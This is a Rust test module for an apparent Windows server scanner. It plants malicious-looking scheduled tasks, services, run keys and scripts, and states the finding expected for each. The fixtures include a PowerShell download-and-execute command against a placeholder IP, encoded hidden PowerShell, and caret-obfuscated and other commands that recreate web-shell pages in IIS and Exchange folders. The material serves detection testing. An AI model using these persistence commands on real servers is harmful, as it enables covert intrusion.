//! Tasks, services and scripts.

use super::super::{Answer, Server, Situation};
use super::{SOFTWARE, SYSTEM, service, system};
use crate::support::hive::Written;

/// A scheduled task as Windows stores it: XML in UTF-16 with a mark.
fn task(server: &Server, name: &str, command: &str, arguments: &str) {
    let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let xml = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" \
         xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers><BootTrigger/></Triggers>\r\n  <Actions \
         Context=\"Author\">\r\n    <Exec>\r\n      <Command>{}</Command>\r\n      <Arguments>{}</Arguments>\r\n    \
         </Exec>\r\n  </Actions>\r\n</Task>\r\n",
        escape(command),
        escape(arguments)
    );
    let wide: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    server.write(&format!(r"C:\Windows\System32\Tasks\{name}"), [&b"\xFF\xFE"[..], &wide].concat());
}

/// Tasks of Windows, IIS, Exchange servers' administrators and other makers' programs: program and arguments.
const ORDINARY_TASKS: &[(&str, &str)] = &[
    (r"%windir%\system32\defrag.exe", "-c -h -k -g -$"),
    (r"%windir%\system32\rundll32.exe", "Startupscan.dll,SusRunTask"),
    (r"C:\Windows\System32\wsqmcons.exe", ""),
    (r"%systemroot%\System32\MusNotification.exe", "Display"),
    (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2102.4-0\MpCmdRun.exe", "-IdleTask -TaskName WdCleanup"),
    (r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua /installsource scheduler"),
    (r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", ""),
    (r"C:\Program Files\win-acme\wacs.exe", r#"--renew --baseuri "https://acme-v02.api.letsencrypt.org/""#),
    ("robocopy", r"C:\inetpub\wwwroot D:\Backup\wwwroot /MIR /R:1"),
    (r"%windir%\system32\inetsrv\appcmd.exe", "recycle apppool /apppool.name:MSExchangeOWAAppPool"),
    ("forfiles", r#"/p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path""#),
    ("cmd.exe", r"/c del /q C:\inetpub\logs\LogFiles\W3SVC1\*.log"),
    (
        "powershell.exe",
        r#"-NoProfile -Command "Invoke-WebRequest -Uri https://mail.example.org/owa/auth/logon.aspx -UseBasicParsing""#,
    ),
    ("powershell.exe", r#"-NonInteractive -ExecutionPolicy Bypass -File "C:\Scripts\Clean.ps1""#),
    (r"C:\ProgramData\chocolatey\bin\choco.exe", "upgrade all -y"),
    (r"C:\Program Files\7-Zip\7z.exe", r"a D:\Backup\site.7z C:\inetpub\wwwroot"),
    (
        "powershell.exe",
        r#"-Command "Add-PSSnapin *Exchange*; Get-MailboxDatabase | Export-Csv C:\Reports\db.csv -Encoding UTF8""#,
    ),
    ("sc.exe", "start w32time task_started"),
    (r"C:\PHP\php.exe", r"-f C:\inetpub\wwwroot\cron.php"),
];

fn ordinary_tasks(server: &Server) {
    for (at, (command, arguments)) in ORDINARY_TASKS.iter().enumerate() {
        task(server, &format!(r"Microsoft\Windows\Part {at}\Task"), command, arguments);
    }
    server.write(
        r"C:\Scripts\Clean.ps1",
        "# Removes logs that are older than a month\r\n$days = 30\r\n$folders = 'C:\\inetpub\\logs\\LogFiles'\r\nforeach \
         ($folder in $folders) {\r\n  Get-ChildItem $folder -Recurse -Filter *.log | Where-Object { $_.LastWriteTime -lt \
         (Get-Date).AddDays(-$days) } | Remove-Item\r\n}\r\n",
    );
    server.write(r"C:\Windows\Tasks\SA.DAT", "");
}

const TASK: &str = r"C:\Windows\System32\Tasks\Microsoft\Windows\Defrag\ScheduledDefrag2";

fn plain_task(server: &Server, command: &str, arguments: &str) {
    task(server, r"Microsoft\Windows\Defrag\ScheduledDefrag2", command, arguments);
}

fn ordinary_services(server: &Server) {
    server.write(SYSTEM, system(Written::new("ROOT")));
    let software = Written::new("ROOT")
        .text(r"Microsoft\Windows\CurrentVersion\Run", "SecurityHealth", r"%windir%\system32\SecurityHealthSystray.exe")
        .text(r"Microsoft\Windows NT\CurrentVersion\Winlogon", "Userinit", r"C:\Windows\system32\userinit.exe,")
        .text(r"Microsoft\Windows NT\CurrentVersion\Winlogon", "Shell", "explorer.exe");
    server.write(SOFTWARE, software.bytes());
}

const SCRIPTS: &str = r"C:\Program Files\Microsoft\Exchange Server\V15\Scripts";

/// A line that puts the page there again, as a batch file.
const AGAIN: &str = r"copy /y C:\ProgramData\Vendor\cache.txt C:\inetpub\wwwroot\aspnet_client\x.aspx";

pub(super) const SITUATIONS: &[Situation] = &[
    Situation {
        id: "tasks/recreates_page",
        what: "A scheduled task with a Windows name copies a page into a web folder again and again",
        plant: |server| plain_task(server, "cmd.exe", &format!("/c {AGAIN}")),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "autostart/writes_server_code", level: "high" },
        ordinary: Some(ordinary_tasks),
    },
    Situation {
        id: "tasks/copies_into_web_folder",
        what: "A scheduled task copies files into a web folder without naming a page",
        plant: |server| {
            plain_task(server, "xcopy.exe", r"/y /q %ProgramData%\Vendor\* %SystemDrive%\inetpub\wwwroot\img")
        },
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "autostart/writes_to_web_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "tasks/by_own_share",
        what: "A scheduled task writes into a web folder through the machine's own share, with carets in the command",
        plant: |server| plain_task(server, "cmd.exe", r"/c c^o^py C:\a.txt \\127.0.0.1\c$\inetpub\wwwroot\x.ashx"),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "autostart/writes_server_code", level: "high" },
        ordinary: None,
    },
    Situation {
        id: "tasks/runs_from_web_folder",
        what: "A scheduled task runs an executable in a web folder",
        plant: |server| plain_task(server, r"C:\inetpub\wwwroot\bin\update.exe", "-quiet"),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "autostart/runs_from_web_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "tasks/runs_from_drop_folder",
        what: "A scheduled task runs an executable from a world-writable folder",
        plant: |server| plain_task(server, r"%PUBLIC%\Libraries\svc.exe", ""),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "autostart/runs_from_drop_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "tasks/encoded",
        what: "A scheduled task runs PowerShell with an encoded command",
        plant: |server| plain_task(server, "powershell", "-nop -w hidden -e SQBuAGUAcgB0AEkAbgBlAHIAdAA="),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "autostart/encoded_powershell", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "tasks/runs_download",
        what: "A scheduled task downloads and runs a script",
        plant: |server| {
            plain_task(
                server,
                "powershell",
                "-c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
            );
        },
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "autostart/downloads_and_executes", level: "high" },
        ordinary: None,
    },
    Situation {
        id: "tasks/script_recreates_page",
        what: "A scheduled task runs a script in an ordinary folder that writes a page",
        plant: |server| {
            plain_task(server, "powershell.exe", r#"-File "C:\Scripts\Clean.ps1""#);
            server.write(
                r"C:\Scripts\Clean.ps1",
                "$text = Get-Content C:\\Scripts\\text.dat -Raw\r\n$page = 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx'\r\nif \
                 (!(Test-Path $page)) { Set-Content $page $text }\r\n",
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Scripts\Clean.ps1",
            reason: "autostart/writes_server_code",
            level: "high",
        },
        ordinary: Some(ordinary_tasks),
    },
    Situation {
        id: "tasks/script_of_any_name",
        what: "A scheduled task makes an interpreter run a file without a script extension, which starts another one that writes a page",
        plant: |server| {
            plain_task(server, "cmd", r#"/c "wscript.exe //e:vbscript C:\data\a.txt""#);
            server.write(r"C:\data\a.txt", "CreateObject(\"WScript.Shell\").Run \"C:\\data\\b.bat\", 0\r\n");
            server.write(r"C:\data\b.bat", format!("@echo off\r\n{AGAIN}\r\n"));
            plain_task(server, "wscript.exe", r"//e:vbscript C:\data\a.txt");
        },
        more: &[],
        answer: Answer::Finding { path: r"C:\data\b.bat", reason: "autostart/writes_server_code", level: "high" },
        ordinary: None,
    },
    Situation {
        id: "tasks/class_in_drop_folder",
        what: "A scheduled task names only a COM class, whose DLL is in a drop folder",
        plant: |server| {
            let hive = Written::new("ROOT").text(
                r"Classes\CLSID\{0D50A1C4-1111-4222-8333-444455556666}\InprocServer32",
                "",
                r"C:\Users\Public\a.dll",
            );
            server.write(SOFTWARE, hive.bytes());
        },
        more: &[],
        answer: Answer::Finding { path: SOFTWARE, reason: "autostart/runs_from_drop_folder", level: "medium" },
        ordinary: Some(ordinary_services),
    },
    Situation {
        id: "scripts/of_every_shell",
        what: "The all-users PowerShell profile writes a page",
        plant: |server| {
            server.write(
                r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1",
                "Set-Content 'C:\\inetpub\\wwwroot\\x.aspx' $text\r\n",
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1",
            reason: "autostart/writes_server_code",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1", "Set-Alias ll Get-ChildItem\r\n");
        }),
    },
    Situation {
        id: "tasks/older_form",
        what: "A scheduled task in the legacy binary format writes a page",
        plant: |server| {
            let mut job = vec![0; 68];
            job[20..22].copy_from_slice(&70u16.to_le_bytes());
            job.extend([0, 0]);
            for text in
                [r"C:\Windows\System32\cmd.exe".to_owned(), format!("/c {AGAIN}"), String::new(), "a".to_owned()]
            {
                let units: Vec<u16> = text.encode_utf16().chain([0]).collect();
                job.extend((units.len() as u16).to_le_bytes());
                job.extend(units.into_iter().flat_map(u16::to_le_bytes));
            }
            server.write(r"C:\Windows\Tasks\At1.job", job);
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\Tasks\At1.job",
            reason: "autostart/writes_server_code",
            level: "high",
        },
        ordinary: None,
    },
    Situation {
        id: "tasks/broken",
        what: "A scheduled task cannot be read",
        plant: |server| server.write(r"C:\Windows\System32\Tasks\Update", "<Task><Actions><Exec><Command>x"),
        more: &[],
        answer: Answer::Gap { kind: "config_malformed", words: "Update" },
        ordinary: None,
    },
    Situation {
        id: "tasks/of_registry_alone",
        what: "The task file is deleted, and the scheduler continues from its registry copy",
        plant: |_| {},
        more: &[],
        answer: Answer::Elsewhere {
            test: "src/targets/starts.rs::actions_of_the_scheduler_are_read_and_no_damage_stops_it",
            says: "the actions in the SOFTWARE hive are checked like those of task files",
        },
        ordinary: None,
    },
    Situation {
        id: "services/command_shell",
        what: "A service starts a shell that writes a page",
        plant: |server| service(server, "ImagePath", &format!("%COMSPEC% /c {AGAIN}")),
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "autostart/writes_server_code", level: "high" },
        ordinary: Some(ordinary_services),
    },
    Situation {
        id: "services/in_web_folder",
        what: "The executable of a service is in a web folder",
        plant: |server| service(server, "ImagePath", r#""C:\inetpub\wwwroot\aspnet_client\svc.exe" -k"#),
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "autostart/runs_from_web_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "services/on_failure",
        what: "The failure action of a service runs an executable from a temporary folder",
        plant: |server| service(server, "FailureCommand", r"%SystemRoot%\Temp\again.exe"),
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "autostart/runs_from_drop_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "services/library",
        what: "A shared service loads a DLL from `Users\\Public`",
        plant: |server| {
            let hive = Written::new("ROOT").text(
                r"ControlSet002\Services\Spooler2\Parameters",
                "ServiceDll",
                r"C:\Users\Public\spool.dll",
            );
            server.write(SYSTEM, system(hive));
        },
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "autostart/runs_from_drop_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "services/wrapped",
        what: "A service wrapper runs an encoded command",
        plant: |server| {
            let hive = Written::new("ROOT")
                .text(r"ControlSet001\Services\Spooler2", "ImagePath", r"C:\Program Files\nssm\nssm.exe")
                .text(r"ControlSet001\Services\Spooler2\Parameters", "Application", "powershell.exe")
                .text(
                    r"ControlSet001\Services\Spooler2\Parameters",
                    "AppParameters",
                    "-EncodedCommand SQBuAGUAcgB0AEkAbgBlAHIAdAA=",
                );
            server.write(SYSTEM, system(hive));
        },
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "autostart/encoded_powershell", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "services/broken_hive",
        what: "The registry hive with the services is damaged",
        plant: |server| server.write(SYSTEM, vec![b'x'; 9_000]),
        more: &[],
        answer: Answer::Gap { kind: "config_malformed", words: "SYSTEM" },
        ordinary: None,
    },
    Situation {
        id: "services/run_key",
        what: "A run key starts a script that writes a page",
        plant: |server| {
            let line = format!("cmd /c {AGAIN}");
            let hive = Written::new("ROOT").text(r"Microsoft\Windows\CurrentVersion\Run", "Update", &line);
            server.write(SOFTWARE, hive.bytes());
        },
        more: &[],
        answer: Answer::Finding { path: SOFTWARE, reason: "autostart/writes_server_code", level: "high" },
        ordinary: Some(ordinary_services),
    },
    Situation {
        id: "scripts/of_exchange",
        what: "A line that writes a page is added to one of Exchange's own scripts, above the signature block",
        plant: |server| {
            let script = format!("param()\r\nWrite-Host 'x'\r\n{AGAIN}\r\n# SIG # Begin signature block\r\n# MIIa\r\n");
            server.write(&format!(r"{SCRIPTS}\Start-Maintenance.ps1"), script);
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Program Files\Microsoft\Exchange Server\V15\Scripts\Start-Maintenance.ps1",
            reason: "autostart/writes_server_code",
            level: "high",
        },
        ordinary: Some(|server| {
            let script = "param([string]$Server)\r\n# Copies style sheets of the installation\r\n$web = Join-Path $exinstall \
                          'ClientAccess\\Owa'\r\nGet-ChildItem $web -Filter *.css | ForEach-Object { Copy-Item $_ $target }\r\n\
                          $client = New-Object System.Net.WebClient\r\nInvoke-Expression $command\r\n# SIG # Begin signature \
                          block\r\n# MIIa\r\n";
            server.write(&format!(r"{SCRIPTS}\Start-Maintenance.ps1"), script);
            server.write(&format!(r"{SCRIPTS}\Mine.ps1"), "Get-Mailbox | Export-Csv C:\\Reports\\all.csv\r\n");
        }),
    },
    Situation {
        id: "scripts/of_logon",
        what: "A group policy script (logon or startup) writes a page",
        plant: |server| {
            server.write(
                r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.bat",
                format!("@echo off\r\n{AGAIN}\r\n"),
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.bat",
            reason: "autostart/writes_server_code",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(
                r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.bat",
                "@echo off\r\nnet use H: \\\\fs\\home\r\n",
            );
        }),
    },
    Situation {
        id: "scripts/listed_by_policy",
        what: "A group policy lists a script with an encoded command",
        plant: |server| {
            let ini = "\r\n[Startup]\r\n0CmdLine=powershell.exe\r\n0Parameters=-enc SQBuAGUAcgB0AEkAbgBlAHIAdAA=\r\n";
            let wide: Vec<u8> = ini.encode_utf16().flat_map(u16::to_le_bytes).collect();
            server.write(
                r"C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini",
                [&b"\xFF\xFE"[..], &wide].concat(),
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini",
            reason: "autostart/encoded_powershell",
            level: "medium",
        },
        ordinary: None,
    },
    Situation {
        id: "tasks/by_other_spelling",
        what: "A scheduled task names its executable in a web folder with slashes, dots and a stream",
        plant: |server| {
            plain_task(server, "C:/inetpub/./x/../wwwroot. /update.exe::$DATA", "");
        },
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "autostart/runs_from_web_folder", level: "medium" },
        ordinary: Some(ordinary_tasks),
    },
    Situation {
        id: "tasks/relative_to_web_folder",
        what: "A scheduled task changes into a web folder and runs a script there",
        plant: |server| {
            plain_task(server, "cmd.exe", r"/c cd /d C:\inetpub\wwwroot\img && update.bat");
        },
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "autostart/runs_from_web_folder", level: "medium" },
        ordinary: Some(|server| {
            plain_task(server, "cmd.exe", r"/c cd /d C:\inetpub\wwwroot\app && php artisan schedule:run")
        }),
    },
    Situation {
        id: "services/short_command",
        what: "A service writes a page with an abbreviated PowerShell command",
        plant: |server| {
            let line = r#"%COMSPEC% /b /c start powershell -c "sc C:\inetpub\wwwroot\q.aspx 1""#;
            let hive = Written::new("ROOT").text(r"ControlSet001\Services\Q", "ImagePath", line);
            server.write(r"C:\Windows\System32\config\SYSTEM", hive.bytes());
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\System32\config\SYSTEM",
            reason: "autostart/writes_server_code",
            level: "high",
        },
        ordinary: Some(ordinary_services),
    },
    Situation {
        id: "services/run_key_of_account",
        what: "A run key of one account writes a page",
        plant: |server| {
            let line = format!("cmd /c {AGAIN}");
            let hive = Written::new("ROOT").text(r"Software\Microsoft\Windows\CurrentVersion\Run", "Update", &line);
            server.write(r"C:\Users\a\NTUSER.DAT", hive.bytes());
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Users\a\NTUSER.DAT",
            reason: "autostart/writes_server_code",
            level: "high",
        },
        ordinary: Some(|server| {
            let line = r#""C:\Users\a\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#;
            let hive = Written::new("ROOT").text(r"Software\Microsoft\Windows\CurrentVersion\Run", "OneDrive", line);
            server.write(r"C:\Users\a\NTUSER.DAT", hive.bytes());
        }),
    },
    Situation {
        id: "scripts/of_account",
        what: "The PowerShell profile of one account writes a page",
        plant: |server| {
            server.write(
                r"C:\Users\Administrator\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1",
                format!("{AGAIN}\r\n"),
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Users\Administrator\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1",
            reason: "autostart/writes_server_code",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(
                r"C:\Users\Administrator\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1",
                "Set-Location C:\\Scripts\r\n",
            )
        }),
    },
    Situation {
        id: "scripts/of_remote_shell",
        what: "A script in Exchange's `RemoteScripts` folder writes a page",
        plant: |server| {
            server.write(
                r"C:\Program Files\Microsoft\Exchange Server\V15\RemoteScripts\Update.ps1",
                format!("{AGAIN}\r\n"),
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Program Files\Microsoft\Exchange Server\V15\RemoteScripts\Update.ps1",
            reason: "autostart/writes_server_code",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(
                r"C:\Program Files\Microsoft\Exchange Server\V15\RemoteScripts\Update.ps1",
                "Set-Location C:\\Scripts\r\n",
            )
        }),
    },
];
